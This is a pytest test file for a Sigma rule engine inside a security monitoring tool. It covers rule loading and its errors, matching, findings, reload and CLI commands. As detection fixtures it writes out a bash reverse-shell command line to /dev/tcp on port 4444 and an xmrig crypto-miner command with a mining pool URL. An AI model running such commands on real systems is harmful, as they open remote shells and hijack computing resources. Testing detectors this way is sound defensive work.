"""Sigma: rule loading and its errors, the stream matcher over the conformance set, findings, reload,
the detect stage and the CLI's test command (no Kafka, no ClickHouse)."""

from __future__ import annotations

import os
import time
from pathlib import Path
from typing import Any

import orjson
import pytest
from typer.testing import CliRunner

from detectors.config import DetectionConfig
from detectors.sigma.detector import SigmaDetections
from detectors.sigma.matcher import Matcher
from detectors.sigma.rules import PACK_DIR, RuleSet
from infra.settings import Settings
from schemas.envelope import Event
from streams import topics
from streams.cli import app
from streams.pipeline.detect import Detection
from tests.sigma_cases import CONFORMANCE, EXPECTED, events, rule_id
from tests.unit.pipeline_fakes import Out, commit, committed, event_message, memory_store

pytestmark = pytest.mark.unit

ROOT = Path(__file__).resolve().parents[2]
GOOD = """title: good rule
id: 11111111-1111-4111-8111-111111111111
status: experimental
author: Jane Analyst
references: [https://example.com/why]
logsource: {product: linux, category: process_creation}
detection:
  sel: {CommandLine|contains: 'evil'}
  condition: sel
level: critical
tags: [attack.execution, attack.t1059.004, atlas.aml.t0011]
"""


@pytest.fixture(scope="module")
def conformance() -> tuple[Matcher, dict[str, Event]]:
    ruleset = RuleSet.load([ROOT / CONFORMANCE])
    assert ruleset.problems == []
    return Matcher(ruleset.rules), events(1_700_000_000_000)


@pytest.mark.parametrize("number", sorted(EXPECTED))
def test_conformance_rule_matches_exactly_its_events(conformance: tuple[Matcher, dict[str, Event]],
                                                     number: int) -> None:
    matcher, evs = conformance
    got = {name for name, event in evs.items() if any(r.id == rule_id(number) for r in matcher.match(event))}
    assert got == EXPECTED[number]


def test_every_conformance_rule_has_expectations(conformance: tuple[Matcher, dict[str, Event]]) -> None:
    matcher, _ = conformance
    assert sorted(r.id for r in matcher.rules) == sorted(rule_id(n) for n in EXPECTED)


def test_the_pack_loads_cleanly_with_many_rules() -> None:
    ruleset = RuleSet.load([PACK_DIR])
    assert ruleset.problems == []
    assert len(ruleset.rules) >= 10
    assert all(r.author == "aiwarden" and r.references and (r.attack or r.atlas) for r in ruleset.rules)
    assert len({r.logsource for r in ruleset.rules}) >= 6


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("title: x\nid: [oops\n", "not a Sigma rule file"),
        (GOOD.replace("id: 11111111-1111-4111-8111-111111111111\n", ""), "has no id"),
        (GOOD.replace("CommandLine|contains", "Nonexistent"), "field 'Nonexistent' is not mapped"),
        (GOOD.replace("product: linux, category: process_creation", "product: windows, category: registry_set"),
         "has no aiwarden events"),
        (GOOD.replace("condition: sel", "condition: sel and missing"), "missing"),
        (GOOD.replace("CommandLine|contains", "CommandLine|fieldref"), "unsupported"),
        (GOOD.replace("contains: 'evil'", "nosuchmodifier: 'evil'"), "nosuchmodifier"),
    ],
)
def test_a_bad_rule_names_its_file_and_the_rest_load(tmp_path: Path, text: str, problem: str) -> None:
    (tmp_path / "bad.yml").write_text(text)
    (tmp_path / "good.yml").write_text(GOOD)
    ruleset = RuleSet.load([tmp_path])
    assert [r.title for r in ruleset.rules] == ["good rule"]
    assert len(ruleset.problems) == 1
    assert ruleset.problems[0].path == tmp_path / "bad.yml"
    assert problem.lower() in ruleset.problems[0].message.lower()


def test_missing_paths_and_duplicate_ids_are_problems(tmp_path: Path) -> None:
    (tmp_path / "a.yml").write_text(GOOD)
    (tmp_path / "b.yml").write_text(GOOD.replace("good rule", "copy"))
    ruleset = RuleSet.load([tmp_path, tmp_path / "nope"])
    assert [r.title for r in ruleset.rules] == ["good rule"]
    messages = sorted(str(p) for p in ruleset.problems)
    assert any("no such file" in m for m in messages) and any("also in" in m for m in messages)


def test_changed_rule_files_are_reloaded(tmp_path: Path) -> None:
    path = tmp_path / "r.yml"
    path.write_text(GOOD)
    sigma = SigmaDetections([tmp_path], DetectionConfig(), reload_interval_s=0.001)
    evil = Event(event_id="e", time_ms=0, source="native", class_uid=1007, activity="process_exec",
                 process_cmdline="run evil", entity_id="host:a")
    assert [r.title for r in sigma.match(evil)] == ["good rule"]
    assert not sigma.maybe_reload(time.monotonic() + 1)  # nothing changed
    path.write_text(GOOD.replace("'evil'", "'wicked'"))
    os.utime(path, (time.time() + 5, time.time() + 5))
    assert sigma.maybe_reload(time.monotonic() + 2)
    assert sigma.match(evil) == []
    (tmp_path / "r2.yml").write_text("broken: [")
    os.utime(tmp_path / "r2.yml", (time.time() + 9, time.time() + 9))
    assert sigma.maybe_reload(time.monotonic() + 3)
    assert len(sigma.ruleset.rules) == 1 and sigma.ruleset.problems[0].path == tmp_path / "r2.yml"


def test_a_match_is_a_finding_with_the_rules_metadata_once_per_window(tmp_path: Path) -> None:
    (tmp_path / "r.yml").write_text(GOOD)
    sigma = SigmaDetections([tmp_path], DetectionConfig(window_s=60))
    rule = sigma.ruleset.rules[0]
    state: dict[str, Any] = {}
    base = dict(source="native", class_uid=1007, activity="process_exec", process_cmdline="evil",
                entity_id="container:abc", entities=["container:abc", "host:n1"], pod="p", namespace="ns")
    first = sigma.detect(state, rule, Event(event_id="1", time_ms=60_000, **base))
    again = sigma.detect(state, rule, Event(event_id="2", time_ms=61_000, **base))
    later = sigma.detect(state, rule, Event(event_id="3", time_ms=125_000, **base))
    assert len(first) == 1 and again == [] and len(later) == 1
    finding = first[0]
    assert finding.detector == "sigma:11111111-1111-4111-8111-111111111111"
    assert (finding.title, finding.severity, finding.maturity) == ("good rule", "critical", "sandbox")
    assert finding.attack_techniques == ["T1059.004"] and finding.atlas_techniques == ["AML.T0011"]
    assert finding.tactics == ["execution"]
    assert finding.attributes["sigma_author"] == "Jane Analyst"
    assert finding.attributes["sigma_references"] == "https://example.com/why"
    assert finding.evidence_event_ids == ["1"] and finding.entities == ["container:abc", "host:n1"]
    assert later[0].finding_id != finding.finding_id
    assert len(orjson.dumps(state)) < 100


def test_status_and_level_mapping(tmp_path: Path) -> None:
    for status in ("stable", "test", "experimental"):
        (tmp_path / f"{status}.yml").write_text(
            GOOD.replace("experimental", status).replace("1111-4111", f"{len(status):04d}-4111")
            .replace("critical", "informational"))
    (tmp_path / "old.yml").write_text(GOOD.replace("experimental", "deprecated").replace("1111-4111", "9999-4111"))
    rules = {r.status: r for r in RuleSet.load([tmp_path]).rules}
    assert {s: r.maturity for s, r in rules.items()} == {"stable": "stable", "test": "incubating",
                                                         "experimental": "sandbox"}
    assert {r.severity for r in rules.values()} == {"info"}


def test_the_detect_stage_runs_the_pack_on_every_event(tmp_path: Path) -> None:
    settings = Settings(state_dir=tmp_path)
    stores = {name: memory_store(name) for name in ("states", "rekeyed", "assets", "models")}
    out = Out()
    detect = Detection(settings, out, **stores)
    miner = [Event(event_id=f"m{i}", time_ms=1_700_000_000_000 + i, source="native", class_uid=1007,
                   activity="process_exec", process_name="xmrig", host="gpu-node-1",
                   process_cmdline="/tmp/xmrig -o stratum+tcp://pool.example:3333 --cuda", extra={"exe": "/tmp/xmrig"},
                   entity_id="container:0123456789ab", entities=["container:0123456789ab"]) for i in range(3)]
    detect.events_batch([event_message(e, offset=i) for i, e in enumerate(miner)])
    findings = [orjson.loads(sent["value"]) for sent in out.on(topics.FINDINGS)]
    sigma = sorted(f["title"] for f in findings if f["detector"].startswith("sigma:"))
    assert sigma == ["Crypto Miner Process", "Crypto Miner on a GPU Node"]  # once each (rate limited)
    gpu = next(f for f in findings if f["title"] == "Crypto Miner on a GPU Node")
    assert gpu["severity"] == "critical" and gpu["maturity"] == "stable" and "T1496" in gpu["attack_techniques"]
    commit(stores["states"])
    assert any(key.startswith("sigma:") for key in committed(stores["states"]))
    assert out.on(topics.DLQ) == []


def test_cli_test_reports_the_matching_records(tmp_path: Path) -> None:
    records = tmp_path / "events.jsonl"
    lines = [
        {"schema": "aiwarden.runtime/v1", "time": "2025-06-01T12:00:00Z", "kind": "process_exec", "host": "h1",
         "process": {"name": "bash", "cmdline": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}},
        {"schema": "aiwarden.runtime/v1", "time": "2025-06-01T12:00:01Z", "kind": "process_exec", "host": "h1",
         "process": {"name": "ls", "cmdline": "ls -l"}},
    ]
    records.write_bytes(b"\n".join(orjson.dumps(line) for line in lines) + b"\nnot json\n")
    rule = PACK_DIR / "linux" / "proc_reverse_shell.yml"
    result = CliRunner().invoke(app, ["sigma", "test", str(rule), str(records)])
    assert result.exit_code == 0, result.output
    matches = [orjson.loads(line) for line in result.stdout.splitlines() if line.startswith("{")]
    assert [(m["title"], m["at"]["line"]) for m in matches] == [("Reverse Shell Command Line", 1)]


def test_cli_check_fails_on_a_bad_rule(tmp_path: Path) -> None:
    (tmp_path / "bad.yml").write_text(GOOD.replace("CommandLine|contains", "Nonexistent"))
    result = CliRunner().invoke(app, ["sigma", "check", str(tmp_path)])
    assert result.exit_code == 1 and "bad.yml" in result.output and "Nonexistent" in result.output
